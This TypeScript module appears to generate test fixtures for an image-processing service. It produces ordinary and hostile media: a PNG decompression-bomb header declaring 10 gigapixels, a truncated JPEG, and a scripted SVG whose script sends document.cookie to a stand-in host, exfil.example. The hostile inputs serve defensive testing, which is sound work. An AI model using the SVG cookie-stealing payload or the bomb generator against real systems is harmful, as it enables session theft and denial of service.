/**
 * Hostile and ordinary media for tests and the benchmark, generated on the fly (no binary fixtures in the repo):
 * a photo-like image (gradients + noise, so blur has edges to remove), a decompression bomb header, a truncated
 * JPEG, a scripted SVG, a PNG named .jpg and an animated GIF.
 */
import sharp from "sharp";

/** Gradients plus per-pixel noise and hard-edged blocks: lots of high-frequency detail, like a real photo. */
export async function photoLike(width: number, height: number, seed = 1): Promise<Buffer> {
  const raw = Buffer.alloc(width * height * 3);
  let state = seed >>> 0 || 1;
  const noise = () => {
    state ^= state << 13;
    state ^= state >>> 17;
    state ^= state << 5;
    return ((state >>> 0) % 97) - 48;
  };
  for (let y = 0; y < height; y++) {
    for (let x = 0; x < width; x++) {
      const i = (y * width + x) * 3;
      const block = ((x >> 5) + (y >> 5)) % 2 === 0 ? 60 : -60;
      raw[i] = clamp((x / width) * 255 + noise() + block);
      raw[i + 1] = clamp((y / height) * 255 + noise() - block);
      raw[i + 2] = clamp(((x + y) / (width + height)) * 255 + noise());
    }
  }
  return sharp(raw, { raw: { width, height, channels: 3 } }).png().toBuffer();
}

const clamp = (v: number) => Math.max(0, Math.min(255, Math.round(v)));

export async function photoJpeg(width: number, height: number, options: { exif?: boolean } = {}): Promise<Buffer> {
  let image = sharp(await photoLike(width, height)).jpeg({ quality: 90 });
  if (options.exif) {
    image = image.withExif({ IFD0: { Copyright: "SECRET-EXIF-MARKER", Artist: "uploader" } }).withIccProfile("p3");
  }
  return image.toBuffer();
}

/** A PNG whose header declares 100,000 × 100,000 pixels (10 gigapixels) with a few bytes of data behind it. */
export function pngBombHeader(width = 100_000, height = 100_000): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.set([8, 2, 0, 0, 0], 8); // 8-bit RGB, no interlace
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk("IHDR", ihdr),
    chunk("IDAT", Buffer.from([0x78, 0x9c, 0x63, 0x00, 0x00, 0x00, 0x01, 0x00, 0x01])),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}

function chunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

function crc32(bytes: Buffer): number {
  let crc = 0xffffffff;
  for (const byte of bytes) {
    crc ^= byte;
    for (let k = 0; k < 8; k++) crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1;
  }
  return (crc ^ 0xffffffff) >>> 0;
}

export async function truncatedJpeg(): Promise<Buffer> {
  const full = await photoJpeg(640, 480);
  return full.subarray(0, Math.floor(full.length * 0.4));
}

export const SCRIPTED_SVG = Buffer.from(
  `<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" onload="alert(1)"><script>fetch('https://exfil.example/?c='+document.cookie)</script><rect width="100" height="100" fill="red"/></svg>`,
);

/** Two differently coloured frames; the preview must show only the first (red). */
export async function animatedGif(): Promise<Buffer> {
  const frame = (r: number, g: number, b: number) =>
    sharp({ create: { width: 64, height: 48, channels: 3, background: { r, g, b } } }).png().toBuffer();
  return sharp([await frame(255, 0, 0), await frame(0, 0, 255)], { join: { animated: true } })
    .gif({ delay: [100, 100], loop: 0 })
    .toBuffer();
}
